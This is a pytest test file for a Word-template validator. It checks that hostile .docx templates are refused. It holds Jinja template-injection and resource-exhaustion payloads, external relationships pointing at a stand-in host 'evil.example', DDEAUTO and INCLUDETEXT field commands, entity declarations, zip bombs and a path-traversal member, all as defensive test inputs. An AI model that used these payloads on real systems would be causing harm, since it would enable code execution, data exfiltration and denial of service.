"""Word templates: the standard one works; hostile and mistyped ones are refused at once."""

import io
import time
import zipfile
from contextlib import suppress

import pytest
from docx import Document
from jinja2 import TemplateSyntaxError

from app.documents.word.grammar import template_environment
from app.documents.word.standard_template import standard_template
from app.documents.word.template_checks import MOST_BYTES, check_template
from app.documents.word.variables import variable_lines
from app.errors import InputRefused


def word(*paragraphs, header="", title=""):
    """A document with these paragraphs."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def changed(content, change):
    """The same container with members changed: name → bytes, None to leave it out."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as before,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for member in before.infolist():
            if change.get(member.filename, b"") is not None:
                given = change.get(member.filename)
                after.writestr(member.filename, given or before.read(member))
        for name in change.keys() - set(before.namelist()):
            after.writestr(name, change[name])
    return written.getvalue()


def part(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def refused(content, name="report.docx"):
    """Every sentence with which a template is refused."""
    with pytest.raises(InputRefused) as found:
        check_template(content, name=name)
    assert all(one.chinese and one.place == "template" for one in found.value.problems)
    return [str(one) + one.chinese for one in found.value.problems]


def test_the_standard_template_passes_and_is_always_the_same():
    check_template(standard_template(), name="report.docx")
    standard_template.cache_clear()
    first = standard_template()
    standard_template.cache_clear()
    assert standard_template() == first


def test_every_name_of_the_list_may_be_used_in_loops_as_it_is_shown():
    check_template(
        word(
            "{{ title }} {{kind}} {{ organiser }}",
            "{%p for indicator in indicators %}",
            "{{ indicator.name }} {{ indicator.interval }} {{ loop.index }}",
            "{%p for unit in indicator.units %}",
            "{{ unit.name }} {{ unit.places }} {% if unit.note %}{{ unit.note }}{% endif %}",
            "{%p endfor %}",
            "{%p endfor %}",
            "{% if not is_public and findings | length > 1 %}{{ status }}{% endif %}",
            header="{{ colophon }}",
            title="{{ title }}",
        ),
        name="我们的模板.DOCX",
    )
    assert len(list(variable_lines())) > 40


def test_all_unknown_names_are_told_at_once_with_what_may_be_meant():
    told = refused(
        word(
            "{{ titel }} 和 {{ title }}",
            "{% for indicator in indicators %}{{ indicator.nmae }}{% endfor %}",
            "{{ indicator.name }} {{ password }}",
            "{{ organiser.secret }}",
            header="{{ offcie }}",
            title="{{ nothing }}",
        )
    )
    text = "\n".join(told)
    for name in (
        "titel",
        "indicator.nmae",
        "password",
        "organiser.secret",
        "offcie",
        "nothing",
    ):
        assert name in text, name
    assert "title" in told[0]
    assert len(told) >= 7  # the loop's variable outside its loop as well


ATTACKS = (
    "{{ ''.__class__.__mro__ }}",
    "{{ title.__class__ }}",
    "{{ title.format }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ self }}",
    "{{ range(100000000) }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 2 ** 99999999 }}",
    "{{ title ~ title }}",
    "{{ title + title }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ title | center(1000000000) }}",
    "{{ title | attr('__class__') }}",
    "{{ title | safe }}",
    "{{ findings[0] }}",
    "{{ title() }}",
    "{% set x = title %}",
    "{% include 'other' %}",
    "{% import 'other' as x %}",
    "{% macro f() %}{{ f() }}{% endmacro %}",
    "{% for x in range(10) %}{% endfor %}",
    "{% for a, b in facts %}{% endfor %}",
    "{% for c in chapters %}{% for d in chapters %}{% endfor %}{% endfor %}",
    "{% for c in chapters recursive %}{{ loop(c) }}{% endfor %}",
    "{% for c in chapters if c.title %}{% endfor %}",
    "{% for c in title %}{% endfor %}",
    "{% extends 'x' %}",
    "{% filter upper %}x{% endfilter %}",
    "{% autoescape false %}{{ title }}{% endautoescape %}",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_template_computes_nothing(attack):
    assert refused(word("before", attack))
    with pytest.raises(TemplateSyntaxError):
        template_environment().from_string(attack)


def test_a_tag_split_into_runs_is_read_as_one():
    document = Document()
    paragraph = document.add_paragraph("{{ ti")
    paragraph.add_run("tel").bold = True
    paragraph.add_run(" }}")
    written = io.BytesIO()
    document.save(written)
    assert "titel" in refused(written.getvalue())[0]


def test_a_tag_in_the_markup_is_refused():
    plain = word("x")
    xml = part(plain, "word/document.xml").replace(b"<w:body>", b'<w:body w:x="{{ title }}">')
    assert "标签只能写在正文" in refused(changed(plain, {"word/document.xml": xml}))[0]


@pytest.mark.parametrize(
    "text", ["{% for c in chapters %}", "{{ title", "{% if %}x{% endif %}"]
)
def test_a_tag_that_cannot_be_read_is_said_with_its_place(text):
    found = refused(word("开头", text))
    assert "读不懂" in found[0]


@pytest.mark.parametrize("name", ["a.docm", "a.doc", "a.dotm", "a.pdf", "docx", ""])
def test_only_docx_is_taken(name):
    assert ".docx" in refused(word("x"), name)[0]


def test_macros_programs_and_embedded_files_are_refused():
    plain = word("x")
    for name in (
        "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml",
        "word/afchunk.mht", "customUI/customUI.xml",
    ):  # fmt: skip
        assert name in refused(changed(plain, {name: b"<x/>"}))[0]
    types = part(plain, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main", b"macroEnabled.main"
    )
    assert "宏" in refused(changed(plain, {"[Content_Types].xml": types}))[0]


def test_what_is_fetched_when_the_document_is_opened_is_refused():
    plain = word("x")
    relations = part(plain, "word/_rels/document.xml.rels")
    for kind in ("image", "attachedTemplate", "frame", "oleObject"):
        added = relations.replace(
            b"</Relationships>",
            f'<Relationship Id="r9" Type="http://x/{kind}" Target="http://evil.example/x" '
            'TargetMode="External"/></Relationships>'.encode(),
        )
        assert refused(changed(plain, {"word/_rels/document.xml.rels": added}))
    link = relations.replace(
        b"</Relationships>",
        b'<Relationship Id="r9" Type="http://x/hyperlink" Target="http://www.gov.cn/" '
        b'TargetMode="External"/></Relationships>',
    )
    check_template(changed(plain, {"word/_rels/document.xml.rels": link}), name="a.docx")


@pytest.mark.parametrize(
    "field",
    ["DDEAUTO c:\\\\cmd", "INCLUDETEXT http://x", "INCLUDEPICTURE http://x", "MACROBUTTON x"],
)
def test_fields_that_read_or_run_something_are_refused(field):
    plain = word("x")
    half = len(field) // 2
    runs = "".join(
        f"<w:r><w:instrText>{part_of}</w:instrText></w:r>"
        for part_of in (field[:half], field[half:])
    )
    xml = part(plain, "word/document.xml").replace(
        b"<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr".encode(), 1
    )
    assert field.split()[0] in refused(changed(plain, {"word/document.xml": xml}))[0]


def test_declared_entities_and_other_encodings_are_refused():
    plain = word("x")
    xml = part(plain, "word/document.xml")
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml
    assert "实体" in refused(changed(plain, {"word/document.xml": bomb}))[0]
    wide = xml.decode().encode("utf-16")
    assert "UTF-8" in refused(changed(plain, {"word/document.xml": wide}))[0]


def test_bombs_locks_and_broken_containers_are_refused():
    plain = word("x")
    assert "5 MB" in refused(plain + b"\0" * MOST_BYTES)[0]
    assert "完整" in refused(plain[: len(plain) // 2])[0]
    assert "完整" in refused(b"PK\3\4 nothing")[0]
    bomb = changed(plain, {"word/media/a.png": b"\0" * 41 * 1024 * 1024})
    assert len(bomb) < MOST_BYTES
    assert "太大" in refused(bomb)[0]
    many = changed(plain, {f"word/media/{n}.png": b"x" for n in range(500)})
    assert "太大" in refused(many)[0]
    text = changed(plain, {"word/styles.xml": b"<x>" + b" " * 9 * 1024 * 1024 + b"</x>"})
    assert "太大" in refused(text)[0]
    assert refused(changed(plain, {"../evil.xml": b"<x/>"}))
    assert "不是 Word" in refused(changed(plain, {"word/document.xml": None}))[0]


def test_values_are_escaped_and_never_read_as_template():
    made = template_environment().from_string("{{ title }}")
    assert made.render(title="<w:p>{{ 7 }}&") == "&lt;w:p&gt;{{ 7 }}&amp;"


@pytest.mark.parametrize(
    "hidden",
    [
        "<w:del><w:r><w:delText>{{ title }}</w:delText></w:r></w:del>",
        "<w:r><w:instrText>{{ title }}</w:instrText></w:r>",
        "<m:r><m:t>{{ title }}</m:t></m:r>",
        "<w:r><w:delText>{</w:delText><w:delText>% for x in y</w:delText></w:r>",
    ],
)
def test_a_tag_in_text_of_another_sort_is_refused(hidden):
    plain = word("x")
    xml = part(plain, "word/document.xml").replace(
        b"<w:sectPr", f"<w:p>{hidden}</w:p><w:sectPr".encode(), 1
    )
    assert "标签只能写在正文" in refused(changed(plain, {"word/document.xml": xml}))[0]


@pytest.mark.parametrize(
    "filling",
    ["<", "<w:t ", "{{", "{%", "<{{", "{% colspan ", "{#", "<w:instrText ", "<w:t>{{"],
)
def test_no_file_takes_long_to_be_refused(filling):
    plain = word("x")
    body = (filling * (400_000 // len(filling))).encode()
    xml = part(plain, "word/document.xml").replace(b"<w:sectPr", body + b"<w:sectPr", 1)
    began = time.perf_counter()
    with suppress(InputRefused):
        check_template(changed(plain, {"word/document.xml": xml}), name="a.docx")
    assert time.perf_counter() - began < 5
